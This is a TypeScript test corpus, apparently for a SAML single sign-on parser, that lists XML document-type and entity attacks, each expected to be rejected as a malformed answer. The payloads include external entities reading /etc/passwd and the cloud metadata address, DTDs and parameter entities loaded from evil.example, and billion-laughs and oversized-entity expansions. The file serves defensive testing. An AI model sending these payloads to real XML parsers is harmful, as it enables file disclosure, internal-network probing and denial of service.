import type { Attack } from '@/tests/sso/saml/corpus/attack';

import { before, changed } from '@/tests/sso/saml/corpus/document-pieces';

const LAUGHS = `<!ENTITY l0 "lol">${Array.from(
  { length: 9 },
  (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`,
).join('')}`;

/** Entities, and where they come from. */
export const entities: Attack[] = [
  ['an empty document type', 'malformed_answer', /^a document type declaration$/, doctype('')],
  [
    'a document type from elsewhere',
    'malformed_answer',
    /^a document type declaration$/,
    before('<!DOCTYPE samlp:Response SYSTEM "https://evil.example/x.dtd">'),
  ],
  [
    'a public document type',
    'malformed_answer',
    /^a document type declaration$/,
    before('<!DOCTYPE samlp:Response PUBLIC "-//X//EN" "https://evil.example/x.dtd">'),
  ],
  [
    'an entity for the name',
    'malformed_answer',
    /^a document type declaration$/,
    doctype('<!ENTITY n "name-of-alice">', '&n;'),
  ],
  [
    'an entity from a file',
    'malformed_answer',
    /^a document type declaration$/,
    doctype('<!ENTITY n SYSTEM "file:///etc/passwd">', '&n;'),
  ],
  [
    'an entity from elsewhere',
    'malformed_answer',
    /^a document type declaration$/,
    doctype('<!ENTITY n SYSTEM "http://169.254.169.254/latest/meta-data/">', '&n;'),
  ],
  [
    'a parameter entity',
    'malformed_answer',
    /^a document type declaration$/,
    doctype('<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;'),
  ],
  [
    'a billion laughs',
    'malformed_answer',
    /^a document type declaration$/,
    doctype(LAUGHS, '&l9;'),
  ],
  [
    'an entity of 100 KB a thousand times',
    'malformed_answer',
    /^a document type declaration$/,
    doctype(`<!ENTITY n "${'x'.repeat(100_000)}">`, '&n;'.repeat(1000)),
  ],
  [
    'an entity of itself',
    'malformed_answer',
    /^a document type declaration$/,
    doctype('<!ENTITY n "&n;">', '&n;'),
  ],
  [
    'an attribute by default',
    'malformed_answer',
    /^a document type declaration$/,
    doctype('<!ATTLIST saml:Assertion ID ID "_x">'),
  ],
  [
    'an entity that nobody declared',
    'malformed_answer',
    /^not well-formed: undefined entity\.$/,
    changed((xml) => xml.replace('name-of-alice', 'name-of-alice&nbsp;')),
  ],
  [
    'a document type behind a byte order mark',
    'malformed_answer',
    /^a document type declaration$/,
    before('\uFEFF<!DOCTYPE x>'),
  ],
];

/** A document type, and where its entity stands. */
function doctype(declarations: string, name = 'name-of-alice'): Attack[3] {
  return ({ good }) =>
    `<!DOCTYPE samlp:Response [${declarations}]>${good.xml.replace('name-of-alice', name)}`;
}
